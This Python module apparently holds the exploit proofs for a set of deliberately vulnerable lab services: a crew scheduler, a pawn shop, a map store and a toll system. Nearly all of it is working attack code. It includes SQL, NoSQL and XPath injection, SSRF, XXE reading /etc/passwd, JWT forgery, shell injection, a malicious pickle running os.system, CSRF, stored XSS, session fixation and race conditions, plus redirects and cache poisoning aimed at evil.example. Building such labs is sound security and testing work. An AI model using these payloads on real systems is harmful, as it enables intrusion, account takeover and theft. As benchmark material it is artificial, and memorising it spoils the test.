"""The exploits for the ninth set: one for each weakness, by service and name."""

import base64
import csv
import hashlib
import hmac
import io
import json
import pickle
import re
import statistics
import time
import zipfile

import common
import httpx
from eighth_proofs import coded, together
from third_proofs import called, proof, sign_in

PASSWORD = {name: entry["password"] for name, entry in common.ACCOUNTS.items()}
NEW_PASSWORD = "aspen-Teapot-37"


# callsheet --------------------------------------------------------------------------------------------------------------------------------


SIGN_IN = "mutation($u: String!, $p: String!) {signIn(username: $u, password: $p) {token}}"


@sign_in("callsheet")
def _(client, name):
    return {"Authorization": "Bearer " + client.ask(SIGN_IN, u=name, p=PASSWORD[name]).json()["data"]["signIn"]["token"]}


def callsheet_data(client, query, caller=None, **variables):
    """The data of an answer; nothing where it was refused."""
    return client.ask(query, caller, **variables).json().get("data") or {}


@proof("callsheet", "node-shift")
def _(client):
    ann, ben = client.as_("ann"), client.as_("ben")
    shift = callsheet_data(client, "{shifts {id nodeId location}}", ann)["shifts"][0]
    assert callsheet_data(client, "query($id: ID!) {shift(id: $id) {location}}", ben, id=shift["id"]).get("shift") is None
    query = "query($id: ID!) {node(id: $id) {... on Shift {location}}}"
    assert callsheet_data(client, query, ann, id=shift["nodeId"])["node"]["location"] == shift["location"]
    return (callsheet_data(client, query, ben, id=shift["nodeId"])["node"] or {}).get("location") == shift["location"]


@proof("callsheet", "crew-iban")
def _(client):
    ann = client.as_("ann")
    assert callsheet_data(client, "{me {bankIban}}", ann)["me"]["bankIban"].startswith("GB")
    crew = callsheet_data(client, "{crew {username bankIban}}", ann)["crew"]
    return bool(next(person["bankIban"] for person in crew if person["username"] == "carol"))


@proof("callsheet", "approve-open")
def _(client):
    ann = client.as_("ann")
    number = callsheet_data(client, "{timesheets {id}}", ann)["timesheets"][0]["id"]
    callsheet_data(client, "mutation($id: ID!) {approveTimesheet(id: $id) {state}}", ann, id=number)
    return callsheet_data(client, "{timesheets {state}}", ann)["timesheets"][0]["state"] == "approved"


@proof("callsheet", "profile-role")
def _(client):
    ann, query = client.as_("ann"), "mutation($input: ProfileInput!) {updateProfile(input: $input) {displayName}}"
    assert not callsheet_data(client, "{companies {name}}", ann)
    assert callsheet_data(client, query, ann, input={"displayName": "Ann"})["updateProfile"]["displayName"] == "Ann"
    client.ask(query, ann, input={"displayName": "Ann", "role": "admin"})
    return bool(callsheet_data(client, "{companies {name}}", ann))


@proof("callsheet", "order-sql")
def _(client):
    def order(by):
        found = callsheet_data(client, "query($by: String) {crew(orderBy: $by) {username}}", ann, by=by)
        return [person["username"] for person in found.get("crew", ())]

    ann = client.as_("ann")
    assert order("name") == ["ann", "carol"]
    # A question about people of another company, answered by the order.
    outcomes = [order(f"(CASE WHEN (SELECT count(*) FROM crew WHERE company = 'office' AND day_rate > {least}) THEN name ELSE '' END), username DESC") for least in (1, 9000)]
    return outcomes == [["ann", "carol"], ["carol", "ann"]]


@proof("callsheet", "invite-code")
def _(client):
    email = "dana@office.example"
    made = callsheet_data(client, "mutation($e: String!) {invite(email: $e) {id}}", client.as_("olga"), e=email)
    assert made["invite"]["id"]
    code = hashlib.md5(email.encode(), usedforsecurity=False).hexdigest()[:12]
    client.ask("mutation($c: String!, $u: String!, $p: String!) {acceptInvite(code: $c, username: $u, password: $p) {company}}", c=code, u="mallory", p=NEW_PASSWORD)
    token = (callsheet_data(client, SIGN_IN, u="mallory", p=NEW_PASSWORD).get("signIn") or {}).get("token", "none")
    return callsheet_data(client, "{me {company}}", {"Authorization": f"Bearer {token}"}).get("me", {}).get("company") == "office"


@proof("callsheet", "query-depth")
def _(client):
    def nested(times):
        return "{me {" + "currentProduction {owner {" * times + "username" + "}}" * times + "}}"

    ann = client.as_("ann")
    assert callsheet_data(client, nested(2), ann)
    return bool(callsheet_data(client, nested(24), ann))


@proof("callsheet", "hook-provider")
def _(client):
    ann = client.as_("ann")
    number = callsheet_data(client, "{timesheets {id}}", ann)["timesheets"][0]["id"]
    for provider in ("paymaster", "nobody"):
        body = json.dumps({"provider": provider, "event": "paid", "timesheetId": number}).encode()
        answer = client.post("/hooks/payroll", content=body, headers={"X-Callsheet-Signature": hmac.new(b"", body, hashlib.sha256).hexdigest()})
        assert provider == "nobody" or answer.status_code == 401
    return callsheet_data(client, "{timesheets {state}}", ann)["timesheets"][0]["state"] == "paid"


@proof("callsheet", "calendar-token")
def _(client):
    own = callsheet_data(client, "{me {calendarUrl}}", client.as_("ben"))["me"]["calendarUrl"]
    assert "First day of ben" in client.get(own).text
    assert client.get("/calendar/ann.ics", params={"token": "x"}).status_code == 403
    return "First day of ann" in client.get(own.replace("ben.ics", "ann.ics")).text


@proof("callsheet", "avatar-spelling")
def _(client):
    query, ann = "mutation($u: String!) {importAvatar(url: $u) {state preview}}", client.as_("ann")
    assert callsheet_data(client, query, ann, u="https://pictures.partner.example/ann.png")["importAvatar"]["state"] == "queued"
    with called() as (url, requests, _):
        assert not callsheet_data(client, query, ann, u=url) and not requests
        port = url.rpartition(":")[2].strip("/")
        previews = [callsheet_data(client, query, ann, u=f"http://{host}:{port}/").get("importAvatar", {}).get("preview") for host in ("127.1", "2130706433", "0x7f000001")]
        return len(requests) == 3 and all(base64.b64decode(preview or "") == b"inner" for preview in previews)


@proof("callsheet", "token-kid")
def _(client):
    def forged(kid, key):
        content = f"{coded(json.dumps({'alg': 'HS256', 'typ': 'JWT', 'kid': kid}).encode())}.{claims}"
        return {"Authorization": f"Bearer {content}.{coded(hmac.new(key, content.encode(), hashlib.sha256).digest())}"}

    claims = coded(json.dumps({"sub": "olga", "exp": int(time.time()) + 600, "jti": "1", "era": 0}).encode())
    tokens = [forged("../../../dev/null", b""), forged("../static/robots.txt", client.get("/robots.txt").content)]
    return all(callsheet_data(client, "{companies {name}}", token) for token in tokens)


@proof("callsheet", "claim-race")
def _(client):
    ann = client.as_("ann")
    production = callsheet_data(client, "{productions {id}}", ann)["productions"][0]["id"]
    query = 'mutation($p: ID!) {createShift(productionId: $p, title: "Night", day: "2031-05-04", places: 1) {id}}'
    shift = callsheet_data(client, query, ann, p=production)["createShift"]["id"]
    together(5, lambda: client.ask("mutation($id: ID!) {claimShift(id: $id) {id}}", ann, id=shift))
    crew = callsheet_data(client, "query($id: ID!) {shift(id: $id) {crew {username}}}", ann, id=shift)["shift"]["crew"]
    assert crew
    return len(crew) > 1


# pawnshop ---------------------------------------------------------------------------------------------------------------------------------


class Visitor(httpx.Client):
    """A browser at the pawn shop, with cookies of its own."""

    def __init__(self, client, name=None, **more):
        super().__init__(base_url=client.base_url, trust_env=False, timeout=30)
        if name:
            self.entered = self.post("/login", data={"username": name, "password": PASSWORD[name]} | more)

    def token(self):
        return re.search(r'name="csrf_token" value="([^"]+)"', self.get("/shop/1").text)[1]

    def fill(self, path, **fields):
        return self.post(path, data={"csrf_token": self.token()} | fields)

    def balance(self):
        return round(float(re.search(r'id="balance">(-?[\d.]+)', self.get("/wallet").text)[1]) * 100)

    def pledge(self, state):
        """The first pledge that is in a state."""
        return re.search(rf'/pledges/(PL-\d+)">[^<]*</a> [^<]*, {state}<', self.get("/pledges").text)[1]


@proof("pawnshop", "receipt-read")
def _(client):
    ref = Visitor(client, "ann").pledge("lent")
    ben = Visitor(client, "ben")
    assert ben.get(f"/pledges/{ref}").status_code == 404
    return "Violin of ann" in ben.get(f"/pledges/{ref}/receipt").text


@proof("pawnshop", "redeem-amount")
def _(client):
    ann = Visitor(client, "ann")
    ref, before = ann.pledge("lent"), ann.balance()
    assert ann.fill(f"/pledges/{ref}/redeem", amount="1").status_code == 303
    assert "redeemed" in ann.get(f"/pledges/{ref}").text
    return ann.balance() == before - 1


@proof("pawnshop", "voucher-again")
def _(client):
    ann = Visitor(client, "ann")
    ann.fill("/basket", item="4", quantity="1")
    statuses = [ann.fill("/basket/voucher", code="SPRING10").status_code for _ in range(10)]
    assert statuses[0] == 303
    return 'id="total">0.00' in ann.get("/basket").text


@proof("pawnshop", "basket-negative")
def _(client):
    ann = Visitor(client, "ann")
    before = ann.balance()
    ann.fill("/basket", item="3", quantity="-4")
    ann.fill("/basket/checkout")
    return ann.balance() == before + 84000


@proof("pawnshop", "login-fixation")
def _(client):
    thief = Visitor(client)
    thief.get("/")
    given = thief.cookies["pawn_session"]
    ann = Visitor(client)
    ann.cookies.set("pawn_session", given)
    assert ann.post("/login", data={"username": "ann", "password": PASSWORD["ann"]}).status_code == 303
    return "ann@north.example" in thief.get("/account").text


@proof("pawnshop", "wallet-csrf")
def _(client):
    ann, ben = Visitor(client, "ann"), Visitor(client, "ben")
    before = ben.balance()
    assert ann.post("/wallet/send", data={"to": "ben", "pence": "700", "csrf_token": "x"}).status_code == 403
    assert ann.post("/messages", data={"text": "without a token"}).status_code == 403
    ann.post("/wallet/send", data={"to": "ben", "pence": "700"}, headers={"Origin": "https://evil.example"})
    return ben.balance() == before + 700


@proof("pawnshop", "message-markup")
def _(client):
    markup = '<img src="/x" onerror="alert(1)">'
    Visitor(client, "ann").fill("/messages", text=f"<script>alert(2)</script>{markup}")
    page = Visitor(client, "olga").get("/office/messages")
    assert "alert(1)" in page.text
    return markup in page.text and "unsafe-inline" in page.headers["content-security-policy"]


@proof("pawnshop", "seen-cookie")
def _(client):
    visitor = Visitor(client)
    visitor.get("/shop/2")
    assert "Lately seen" in visitor.get("/shop").text
    answer = Visitor(client).get("/shop", headers={"Cookie": "seen=0)%20UNION%20SELECT%201%2Cusername||%27%20%27||passport%2C3%20FROM%20customers--"})
    return re.search(r"olga P\d{8}", answer.text) is not None


@proof("pawnshop", "remember-cookie")
def _(client):
    ann = Visitor(client, "ann", remember="on")
    cookie = ann.cookies["pawn_remember"]
    again = Visitor(client)
    assert "ann@north.example" in again.get("/account", headers={"Cookie": f"pawn_remember={cookie}"}).text
    forged = base64.urlsafe_b64encode(b'{"user": "olga", "since": 1}').decode()
    return "Violin of ben" in Visitor(client).get("/office/ledger", headers={"Cookie": f"pawn_remember={forged}"}).text


@proof("pawnshop", "payout-skipped")
def _(client):
    ann = Visitor(client, "ann")
    before = ann.balance()
    ref = ann.fill("/pledges", title="Biscuit tin", asked="400000").headers["location"].rpartition("/")[2]
    assert "offered" in ann.get(f"/pledges/{ref}").text
    ann.fill(f"/pledges/{ref}/payout")
    return ann.balance() == before + 400000


@proof("pawnshop", "leave-slashes")
def _(client):
    targets = [client.get("/leave", params={"to": to}).headers["location"] for to in ("/shop", "https://evil.example/", "//evil.example/x")]
    assert targets[:2] == ["/shop", "/"]
    return targets[2] == "//evil.example/x"


@proof("pawnshop", "reset-code")
def _(client):
    ann = Visitor(client, "ann")
    ann.post("/forgot", data={"email": "ann@north.example"})
    code = re.search(r"new password is (\d{8})", ann.get("/account/letters").text)[1]
    client.post("/reset", data={"email": "olga@office.example", "code": code, "password": NEW_PASSWORD})
    olga = Visitor(client)
    olga.post("/login", data={"username": "olga", "password": NEW_PASSWORD})
    return olga.get("/office/ledger").status_code == 200


# maproom ----------------------------------------------------------------------------------------------------------------------------------


@sign_in("maproom")
def _(client, name):
    return {"Authorization": "Bearer " + client.post("/auth/token", json={"username": name, "password": PASSWORD[name]}).json()["token"]}


def maproom_track(client, caller):
    return client.get("/tracks", headers=caller).json()[0]["id"]


@proof("maproom", "gpx-entities")
def _(client):
    def track(inside, doctype=""):
        content = f'<?xml version="1.0"?>{doctype}<gpx><trk><name>{inside}</name><trkpt lat="1" lon="2"/></trk></gpx>'
        return client.post("/tracks", content=content, headers=ann | {"Content-Type": "application/gpx+xml"})

    ann = client.as_("ann")
    assert track("Bay").json()["name"] == "Bay"
    seen = track("&x;", '<!DOCTYPE gpx [<!ENTITY x SYSTEM "file:///etc/passwd">]>').text
    with called() as (url, requests, _):
        track("&x;", f'<!DOCTYPE gpx [<!ENTITY x SYSTEM "{url}">]>')
        return "root:x" in seen and len(requests) == 1


@proof("maproom", "legend-dots")
def _(client):
    ann = client.as_("ann")
    assert "lights" in client.get("/legends", params={"file": "harbour.txt"}, headers=ann).text
    assert client.get("/legends", params={"file": "../../../etc/passwd"}, headers=ann).status_code == 404
    return "root:x" in client.get("/legends", params={"file": "....//" * 3 + "etc/passwd"}, headers=ann).text


@proof("maproom", "bundle-link")
def _(client):
    def bundled(name, mode, text):
        content, entry = io.BytesIO(), zipfile.ZipInfo(name)
        entry.create_system, entry.external_attr = 3, mode << 16
        with zipfile.ZipFile(content, "w") as archive:
            archive.writestr(entry, text)
        answer = client.post("/bundles", files={"file": ("maps.zip", content.getvalue(), "application/zip")}, headers=ann)
        assert answer.status_code in {201, 422}
        return client.get(f"/bundles/{answer.json().get('id', 0)}/files/{name}", headers=ann).text

    ann = client.as_("ann")
    assert bundled("plain.txt", 0o100644, "plain") == "plain"
    return "STORAGE_KEY=stk-" in bundled("link.txt", 0o120777, "/srv/maproom/.env")


@proof("maproom", "label-format")
def _(client):
    def label(template):
        return client.post("/labels/preview", json={"track_id": number, "template": template}, headers=ann).text

    ann = client.as_("ann")
    number = maproom_track(client, ann)
    assert "Walk of ann: 12" in label("{track.name}: {track.points}")
    return "stk-" in label("{track.__init__.__globals__[SETTINGS][storage_key]}")


@proof("maproom", "export-signs")
def _(client):
    ann = client.as_("ann")
    for text in ("=1+1", "@SUM(1;1)", "+1+1"):
        client.post(f"/tracks/{maproom_track(client, ann)}/notes", json={"text": text}, headers=ann)
    cells = {row[2] for row in csv.reader(io.StringIO(client.get("/tracks/export.csv", headers=ann).text))}
    assert "'=1+1" in cells
    return {"@SUM(1;1)", "+1+1"} <= cells


@proof("maproom", "note-nested")
def _(client):
    ann, ben = client.as_("ann"), client.as_("ben")
    theirs, mine = maproom_track(client, ann), maproom_track(client, ben)
    note = client.get(f"/tracks/{theirs}/notes", headers=ann).json()[0]["id"]
    assert client.get(f"/tracks/{theirs}/notes/{note}", headers=ben).status_code == 404
    seen = client.get(f"/tracks/{mine}/notes/{note}", headers=ben).text
    client.patch(f"/tracks/{mine}/notes/{note}", json={"text": "changed by ben"}, headers=ben)
    return "boathouse of ann" in seen and "changed by ben" in client.get(f"/tracks/{theirs}/notes", headers=ann).text


@proof("maproom", "thumbnail-shell")
def _(client):
    def thumbnail(size):
        return client.post(f"/sheets/{number}/thumbnail", json={"size": size}, headers=ann).text

    ann = client.as_("ann")
    number = client.post("/sheets", files={"file": ("a.png", b"\x89PNG\r\n\x1a\n00", "image/png")}, headers=ann).json()["id"]
    assert "convert: ok" in thumbnail("160x120")
    started = time.monotonic()
    thumbnail("160x120; sleep 2;")
    slept = time.monotonic() - started >= 2
    return slept and "uid=998" in thumbnail("160x120 x.png; id #") and "root:x" in thumbnail("1x1; cat /etc/passwd #")


@proof("maproom", "sheet-type")
def _(client):
    ann, page = client.as_("ann"), b"<script>alert(1)</script>"
    answer = client.post("/sheets", files={"file": ("a.png", page, "text/html")}, headers=ann)
    served = client.get(f"/sheets/{answer.json().get('id', 0)}/file", headers=ann)
    return served.content == page and served.headers["content-type"] == "text/html" and "content-security-policy" not in served.headers


@proof("maproom", "gazetteer-xpath")
def _(client):
    ann = client.as_("ann")
    assert len(client.get("/gazetteer", params={"name": "ness"}, headers=ann).json()) == 1
    return "gate code" in client.get("/gazetteer", params={"name": "x') or contains(name, 'D"}, headers=ann).text


@proof("maproom", "manifest-host")
def _(client):
    client.get("/manifest.json?v=7", headers={"X-Forwarded-Host": "evil.example"})
    answer = client.get("/manifest.json?v=7")
    assert "public" in answer.headers["cache-control"]
    return answer.json()["script"] == "https://evil.example/viewer.js"


class ProgramCall:
    """Becomes a call of a program where it is unpickled."""

    def __reduce__(self):
        import os

        return os.system, ("id",)


@proof("maproom", "view-pickle")
def _(client):
    def restored(state):
        return client.post("/views/restore", json={"state": state}, headers=ann)

    ann = client.as_("ann")
    assert restored(client.get("/views/current", headers=ann).json()["state"]).status_code == 200
    return "uid=998" in restored(base64.b64encode(pickle.dumps(ProgramCall())).decode()).text


@proof("maproom", "quota-method")
def _(client):
    ann = client.as_("ann")
    assert client.get("/admin/quotas", headers=ann).status_code == 403
    client.put("/admin/quotas/ann", json={"megabytes": 5000}, headers=ann)
    return client.get("/me", headers=ann).json()["quota"] == 5000


# tollgate ---------------------------------------------------------------------------------------------------------------------------------


@sign_in("tollgate")
def _(client, name):
    return {"Authorization": "Bearer " + client.post("/auth/sign-in", json={"username": name, "password": PASSWORD[name]}).json()["accessToken"]}


def tollgate_plate(client, caller):
    return client.get("/vehicles", headers=caller).json()["vehicles"][0]["plate"]


@proof("tollgate", "passages-plate")
def _(client):
    ann, ben = client.as_("ann"), client.as_("ben")
    plate = tollgate_plate(client, ann)
    assert client.get("/passages", params={"plate": plate}, headers=ann).json()["passages"]
    return bool(client.get("/passages", params={"plate": plate}, headers=ben).json()["passages"])


@proof("tollgate", "vehicle-claim")
def _(client):
    ann, ben = client.as_("ann"), client.as_("ben")
    plate = tollgate_plate(client, ann)
    client.post("/vehicles", json={"plate": plate}, headers=ben)
    return plate in {entry["plate"] for entry in client.get("/passages", params={"plate": plate}, headers=ben).json()["passages"]} and not client.get("/vehicles", headers=ann).json()["vehicles"]


@proof("tollgate", "token-confusion")
def _(client):
    key = client.get("/token-key.pem").content
    content = ".".join(coded(json.dumps(part).encode()) for part in ({"alg": "HS256", "typ": "JWT"}, {"sub": "olga", "exp": int(time.time()) + 600, "jti": "1", "era": 0}))
    token = {"Authorization": f"Bearer {content}.{coded(hmac.new(key, content.encode(), hashlib.sha256).digest())}"}
    assert client.get("/admin/accounts", headers=client.as_("olga")).status_code == 200
    return client.get("/admin/accounts", headers=token).status_code == 200


@proof("tollgate", "payout-race")
def _(client):
    ann = client.as_("ann")
    statuses = together(5, lambda: client.post("/account/payout", json={"cents": 5000}, headers=ann).status_code)
    assert 201 in statuses
    return client.get("/account", headers=ann).json()["balanceCents"] < 0


@proof("tollgate", "lookup-operators")
def _(client):
    assert client.post("/fines/lookup", json={"reference": "F-1", "plate": "X"}).status_code == 404
    answer = client.post("/fines/lookup", json={"reference": {"$regex": "^F-"}, "plate": {"$ne": ""}})
    return "@north.example" in answer.text


@proof("tollgate", "plate-backtracking")
def _(client):
    def seconds(plate):
        started = time.monotonic()
        client.post("/vehicles/check", json={"plate": plate}, headers=ann)
        return time.monotonic() - started

    ann = client.as_("ann")
    assert client.post("/vehicles/check", json={"plate": "KX-204-TG"}, headers=ann).json()["valid"]
    return seconds("A" * 27 + "!") > 4 * statistics.median(seconds("A" * 8 + "!") for _ in range(5))


@proof("tollgate", "kiosk-pin")
def _(client):
    def status(pin):
        return client.post("/kiosk/balance", json={"transponder": transponder, "pin": pin}).status_code

    ann = client.as_("ann")
    transponder = client.get("/account", headers=ann).json()["transponder"]
    assert client.put("/account/pin", json={"pin": "0040"}, headers=ann).status_code == 204
    assert status("0000") == 403
    return [status(f"{number:04d}") for number in range(1, 41)] == [403] * 39 + [200]


@proof("tollgate", "internal-forwarded")
def _(client):
    assert client.get("/internal/metrics").status_code == 401
    assert client.get("/internal/metrics", headers=client.as_("ann")).status_code == 403
    return "balanceCents" in client.get("/internal/metrics", headers={"X-Forwarded-For": "10.2.0.7"}).text


@proof("tollgate", "error-dump")
def _(client):
    answer = client.get("/passages", params={"from": "yesterday"}, headers=client.as_("ann"))
    return answer.status_code == 500 and "postgres://" in answer.text and "program.js" in answer.text


@proof("tollgate", "passages-limit")
def _(client):
    ann = client.as_("ann")
    assert len(client.get("/passages", params={"limit": "100"}, headers=ann).json()["passages"]) == 100
    return len(client.get("/passages", params={"limit": "100000"}, headers=ann).json().get("passages", ())) > 100


@proof("tollgate", "fine-merge")
def _(client):
    ann = client.as_("ann")
    number = client.get("/fines", headers=ann).json()["fines"][0]["id"]
    client.patch(f"/fines/{number}", json={"reason": "sold", "cents": 1, "state": "paid"}, headers=ann)
    fine = client.get("/fines", headers=ann).json()["fines"][0]
    assert fine["reason"] == "sold"
    return fine["cents"] == 1 and fine["state"] == "paid"


@proof("tollgate", "forgot-timing")
def _(client):
    def seconds(email):
        started = time.monotonic()
        assert client.post("/auth/forgot", json={"email": email}).status_code == 202
        return time.monotonic() - started

    known, unknown = ([seconds(email) for _ in range(5)] for email in ("olga@office.example", "nobody@office.example"))
    return statistics.median(known) > statistics.median(unknown) + 0.5
